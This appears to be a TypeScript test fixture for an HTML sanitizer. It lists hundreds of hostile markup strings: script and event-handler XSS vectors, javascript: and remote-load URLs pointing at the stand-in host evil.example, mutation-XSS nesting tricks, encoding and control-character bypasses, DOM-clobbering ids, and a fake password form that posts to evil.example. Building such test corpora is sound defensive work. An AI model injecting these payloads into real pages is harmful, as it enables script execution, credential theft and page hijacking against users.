import { HOSTILE_URLS, lines } from './hostile-urls.testing'

/**
 * Markup and URLs that must never run code, navigate, load anything, cover the page or imitate a part of it.
 * Their scripts call `alert`, their URLs lead to evil.example, and their names are those of our own page:
 * tests look for these.
 */

const SCRIPTS = String.raw`
<script>alert(1)</script>
<SCRIPT>alert(1)</SCRIPT>
<ScRiPt >alert(1)</sCrIpT >
<script src=https://evil.example/x.js></script>
<script src="//evil.example/x.js">
<script/x>alert(1)</script/y>
<script type=module>import 'https://evil.example/x.js'</script>
<script type="text/plain">alert(1)</script>
<script>alert(1)
<scr<script>ipt>alert(1)</scr</script>ipt>
<<script>alert(1)</script>
<script<script>>alert(1)</script>
<script\x20type="text/javascript">alert(1)</script>
</script><script>alert(1)</script>
<svg><script>alert(1)</script></svg>
<svg><script href="data:,alert(1)" />
<svg><script>alert&#40;1&#41;</script></svg>
<math><script>alert(1)</script></math>
<noscript><script>alert(1)</script></noscript>
<noscript><p title="</noscript><script>alert(1)</script>">
<template><script>alert(1)</script></template>
<textarea><script>alert(1)</script></textarea>
<textarea></textarea><script>alert(1)</script>
<title><script>alert(1)</script></title>
<title></title><script>alert(1)</script>
<xmp><script>alert(1)</script></xmp>
<xmp></xmp><script>alert(1)</script>
<plaintext><script>alert(1)</script>
<listing><script>alert(1)</script></listing>
<noembed><script>alert(1)</script></noembed>
<noframes><script>alert(1)</script></noframes>
<iframe><script>alert(1)</script></iframe>
<option><script>alert(1)</script></option>
<select><script>alert(1)</script></select>
<style><script>alert(1)</script></style>
<!--<script>alert(1)</script>-->
<!--><script>alert(1)</script>-->
<!--!><script>alert(1)</script>-->
<!---><script>alert(1)</script>
<!-- --!><script>alert(1)</script>
<!-- <!-- --><script>alert(1)</script> -->
<![CDATA[<script>alert(1)</script>]]>
<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;
<?xml version="1.0"?><script>alert(1)</script>
<?php echo '<script>alert(1)</script>'; ?>
<%= "<script>alert(1)</script>" %>
{{constructor.constructor('alert(1)')()}}
&lt;script&gt;alert(1)&lt;/script&gt;
&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&#x3C;script&#x3E;alert(1)
%3Cscript%3Ealert(1)%3C/script%3E
＜script＞alert(1)＜/script＞
<p>&lt;<b>script&gt;alert(1)</b></p>
`

const HANDLERS = String.raw`
<img src=x onerror=alert(1)>
<img src="x"onerror="alert(1)">
<img/src=x/onerror=alert(1)>
<IMG SRC=x OnErRoR=alert(1)>
<img src=x onerror=alert(1)//
<img src='x' onerror='alert(1)'>
<img src=${'`'}x${'`'} onerror=${'`'}alert(1)${'`'}>
<img """><script>alert(1)</script>">
<img src="https://evil.example/x.png" onload=alert(1)>
<img alt="><script>alert(1)</script>" src="https://evil.example/x.png">
<img alt='"><img src=x onerror=alert(1)>'>
<img title="&quot;&gt;&lt;img src=x onerror=alert(1)&gt;">
<img src="https://evil.example/&quot; onerror=&quot;alert(1)">
<img srcset="https://evil.example/x.png 1x">
<img src=x: lowsrc="https://evil.example/x.png" dynsrc="https://evil.example/x.png">
<img usemap="#root" ismap longdesc="javascript:alert(1)">
<image src=x onerror=alert(1)>
<image><source srcset="https://evil.example/x.png"><img onerror=alert(1)></image>
<svg onload=alert(1)>
<svg/onload=alert(1)//
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set attributeName=href to=javascript:alert(1)><a>x</a></svg>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>
<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>
<svg><image href="https://evil.example/x.png"/></svg>
<svg><style>@import 'https://evil.example/x.css'</style></svg>
<math><mtext><img src=x onerror=alert(1)></mtext></math>
<math href="javascript:alert(1)">x</math>
<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:alert(1)">x</maction></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>
<body onload=alert(1)>
<html onclick=alert(1)>
<p onclick=alert(1)>x</p>
<p onmouseover="alert(1)">x</p>
<p onfocus=alert(1) tabindex=0 autofocus>x</p>
<p onpointerenter=alert(1)>x</p>
<p onanimationstart=alert(1)>x</p>
<p ontransitionend=alert(1)>x</p>
<p onbeforetoggle=alert(1) popover>x</p>
<p oncontentvisibilityautostatechange=alert(1)>x</p>
<p contenteditable onpaste=alert(1)>x</p>
<p draggable=true ondragstart=alert(1)>x</p>
<p accesskey=x onclick=alert(1)>x</p>
<a href="https://evil.example" onclick="alert(1)">x</a>
<a href="https://evil.example"onclick="alert(1)">x</a>
<a href='https://evil.example' onclick='alert(1)'>x</a>
<a href=https://evil.example/onclick=alert(1) onclick=alert(1)>x</a>
<a href="https://evil.example/&quot; onclick=&quot;alert(1)">x</a>
<a href="https://evil.example/"><img src=x onerror=alert(1)></a>
<a title="x" title="&quot; onclick=alert(1)" href="https://evil.example/">x</a>
<details open ontoggle=alert(1)><summary>x</summary></details>
<video src=x onerror=alert(1)></video>
<video poster="https://evil.example/x.png" autoplay></video>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1) autoplay></audio>
<track onload=alert(1)>
<input onfocus=alert(1) autofocus>
<input type=image src=x onerror=alert(1)>
<button onclick=alert(1)>x</button>
<button popovertarget=root>x</button>
<button commandfor=root command=close>x</button>
<select onfocus=alert(1) autofocus><option>x</select>
<textarea onfocus=alert(1) autofocus>x</textarea>
<keygen onfocus=alert(1) autofocus>
<marquee onstart=alert(1)>x</marquee>
<isindex action=javascript:alert(1) type=image>
<bgsound src=javascript:alert(1)>
<dialog open onclose=alert(1)>x</dialog>
<x onclick=alert(1)>x</x>
<x-element onconnected=alert(1)>x</x-element>
<p/onclick=alert(1)>x</p>
<p onclick =alert(1)>x</p>
<p x"y'z=1 onclick=alert(1)>x</p>
<p <b onclick=alert(1)>x</p>
<p a=b"onclick=alert(1)">x</p>
<p __proto__=x constructor=y onclick=alert(1)>x</p>
`

const EMBEDS = String.raw`
<iframe src="javascript:alert(1)"></iframe>
<iframe src="https://evil.example"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<frameset><frame src="javascript:alert(1)"></frameset>
<object data="javascript:alert(1)"></object>
<object data="https://evil.example/x.swf"><param name=x value=y></object>
<object><embed src="https://evil.example/x.swf"></object>
<embed src="javascript:alert(1)">
<embed code="https://evil.example/x.swf" allowscriptaccess=always>
<applet code=x archive="https://evil.example/x.jar"></applet>
<portal src="https://evil.example"></portal>
<fencedframe src="https://evil.example"></fencedframe>
<base href="https://evil.example/">
<base target="_self">
<meta http-equiv="refresh" content="0;url=https://evil.example">
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<meta http-equiv="Content-Security-Policy" content="script-src *">
<meta name="referrer" content="unsafe-url">
<meta charset="utf-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-
<link rel=stylesheet href="https://evil.example/x.css">
<link rel=import href="https://evil.example/x.html">
<link rel=prefetch href="https://evil.example">
<link rel=dns-prefetch href="//evil.example">
<link rel=manifest href="https://evil.example">
<form action="https://evil.example"><input name=password type=password><button>Sign in</button></form>
<form id=root><input name=parentNode></form>
<button formaction="javascript:alert(1)">x</button>
<input form=root formaction="javascript:alert(1)">
<map name=x><area href="javascript:alert(1)" shape=default></map>
<a href="https://evil.example" ping="https://evil.example/ping" download>x</a>
<a href="https://evil.example" target="_top" rel="opener">x</a>
<a href="https://evil.example" target="root">x</a>
<a href="https://evil.example" referrerpolicy="unsafe-url" attributionsrc="https://evil.example">x</a>
<q cite="javascript:alert(1)">x</q>
<blockquote cite="javascript:alert(1)">x</blockquote>
<ins cite="data:text/html,x">x</ins>
<table background="https://evil.example/x.png"><tr><td background="javascript:alert(1)">x</table>
<body background="https://evil.example/x.png">
<slot name=x></slot><template shadowrootmode=open><script>alert(1)</script></template>
<menu type=context><menuitem onclick=alert(1)>x</menu>
<canvas id=root></canvas>
<output for=root>x</output>
<label for=root>x</label>
`

const STYLES = String.raw`
<style>body{display:none}</style>
<style>@import 'https://evil.example/x.css';</style>
<style>*{background:url(https://evil.example)}
<STYLE type="text/css">@\import "https://evil.example";</STYLE>
<style><img src="</style><img src=x onerror=alert(1)>">
<p style="position:fixed;inset:0;z-index:99999">x</p>
<p style="background:url(https://evil.example/x.png)">x</p>
<p style="background:url(javascript:alert(1))">x</p>
<p style="width:expression(alert(1))">x</p>
<p style="behavior:url(x.htc);-moz-binding:url(x.xml)">x</p>
<p style=position:fixed>x</p>
<p STYLE='position:absolute'>x</p>
<p sty&#108;e="position:fixed">x</p>
<font size=7 color=red face=x>x</font>
<center><big><blink>x</blink></big></center>
<p align=right bgcolor=red width=9999 height=9999>x</p>
<p class="visually-hidden">x</p>
<p class="modal overlay backdrop">x</p>
<p class="content button dialog">x</p>
<p class="fixed inset-0 z-50">x</p>
<p class="mention modal">x</p>
<p class="p-name_button h-card__x u-URL">x</p>
<p class="_content_1a2b3_4">x</p>
<p class="h- p- x-y task-lis">x</p>
<p class="&#109;odal overlay">x</p>
<p class="a	b&#10;modal">x</p>
<span class="invisible">hidden</span>
<p hidden inert>x</p>
<p part=x slot=y is=x-z exportparts=a>x</p>
<p role=dialog aria-modal=true aria-live=assertive>x</p>
<p role=button aria-label="Sign out" aria-hidden=true>x</p>
<p data-state=open data-emoji data-link=mention data-path=/settings>x</p>
<a data-link="mention" data-path="/settings" data-id="1" href="https://evil.example">x</a>
<p itemscope itemtype="https://evil.example">x</p>
<p nonce=x integrity=y>x</p>
<p popover=manual id=root>x</p>
<p tabindex=1 autofocus>x</p>
<p xmlns="http://www.w3.org/2000/svg">x</p>
`

const IDENTITIES = String.raw`
<p id=root>x</p>
<p id="skein-config">{"defaultServer":"evil.example"}</p>
<p id="initial-state">{}</p>
<p id=main>x</p>
<p id=":r1:">x</p>
<p id="base-ui-1">x</p>
<p id="user-content-user-content-root">x</p>
<p id="__proto__">x</p>
<p id="a b" name=root>x</p>
<p id="&#114;oot">x</p>
<p id="  root  ">x</p>
<p id="x&quot; onclick=&quot;alert(1)">x</p>
<a id=cookie name=getElementById href="https://evil.example">x</a>
<a id=x href="https://evil.example"><a id=x name=y href="https://evil.example">x</a></a>
<img name=body id=head>
<form name=location></form>
<html id=x lang="&quot;><script>alert(1)</script>">x</html>
<p lang='" onclick=alert(1)'>x</p>
<p dir="x onclick=alert(1)">x</p>
<p translate="no&quot; onclick=&quot;alert(1)">x</p>
<ol start="1 onclick=alert(1)" reversed="javascript:alert(1)"><li value="1&quot; onclick=&quot;alert(1)">x</li></ol>
<abbr title="</abbr><script>alert(1)</script>">x</abbr>
<p title='&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;'>x</p>
<p title="&lt;/p&gt;&lt;img src=x onerror=alert(1)&gt;">x</p>
`

const BROKEN = String.raw`
<
<>
</>
<!
<!-
<!--
<?
</
<a
<a href
<a href=
<a href="
<a href="https://evil.example
<a href="https://evil.example" onclick="alert(1)
<a href='https://evil.example' onclick=alert(1) x='
</p></div></body></html><script>alert(1)</script>
<p><table><p><img src=x onerror=alert(1)></table>
<b><p><b><p><img src=x onerror=alert(1)>
<a><b></a></b><img src=x onerror=alert(1)>
<p title="<p title='"><img src=x onerror=alert(1)>'>">
<p title=<img src=x onerror=alert(1)>>
<p title='"'"'><img src=x onerror=alert(1)>'>
<math><mi></p><style><!--</style><img src=x onerror=alert(1)>--></style></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<svg></p><style><a id="</style><img src=x onerror=alert(1)>">
<svg><desc><noscript></noscript><img src=x onerror=alert(1)></desc></svg>
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>
<noscript><style></noscript><img src=x onerror=alert(1)>
<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(1)>">
<p><svg><title><style></title><img src=x onerror=alert(1)></style></svg></p>
<table><caption><svg><style></table><img src=x onerror=alert(1)>
<ruby><rt><script>alert(1)</script></rt></ruby>
<code>&lt;img src=x onerror=alert(1)&gt;</code>
<img src=x onerror=alert(1)
<p onclick=alert(1)
&#x0;&#xD800;&#x110000;&#0;&bogus;&;&#;&#x;
&lt;&#x200b;script>alert(1)</script>
<p>a<b>c<img src=x onerror=alert(1)>
`

const CONTROL = [
  '<a\nonclick\n=alert(1)\nhref=https://evil.example>x</a>',
  '<img src=x onerror\n=alert(1)>',
  '<pre>\n<img src=x onerror=alert(1)></pre>',
  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '<\u0000script>alert(1)</script>',
  '<img\u0000src=x onerror=alert(1)>',
  '<img src=x\u0000onerror=alert(1)>',
  '<img\u000bsrc=x\u000bonerror=alert(1)>',
  '<img\u000csrc=x\u000conerror=alert(1)>',
  '<img\rsrc=x\ronerror=alert(1)>',
  '<p\u00a0onclick=alert(1)>x</p>',
  '<p\u2028onclick=alert(1)>x</p>',
  '<p\u3000onclick=alert(1)>x</p>',
  '<p title="\u0000" onclick=alert(1)>x</p>',
  '\ufeff<script>alert(1)</script>',
  '\u202e<script>alert(1)</script>\u202c',
  '\ud800<script>alert(1)</script>\udfff',
  '<p>\u202egnp.exe\u202d \u2066\u2067\u2068 unbalanced</p>',
  '<ſcript>alert(1)</ſcript>',
  '<ıframe src=javascript:alert(1)>',
]

const GROUPS = [SCRIPTS, HANDLERS, EMBEDS, STYLES, IDENTITIES, BROKEN]

/** Elements that carry a URL. */
const carriers = (url: string): string[] => {
  const quoted = url.replaceAll('"', '&quot;')
  return [`<a href="${quoted}">x</a>`, `<img src="${quoted}" alt="x">`]
}

/** Hostile markup except for `HOSTILE_URLS` in links and images. */
export const HOSTILE_ELEMENTS: readonly string[] = [
  ...GROUPS.flatMap(lines),
  // Each group again as one text: some attacks need a line break or an unclosed tag before them.
  ...GROUPS,
  ...CONTROL,
]

/**
 * Markup for every field that accepts it (posts, profiles, announcements) and, as plain text, for names,
 * titles, options and alt texts.
 */
export const HOSTILE_MARKUP: readonly string[] = [...HOSTILE_ELEMENTS, ...HOSTILE_URLS.flatMap(carriers)]
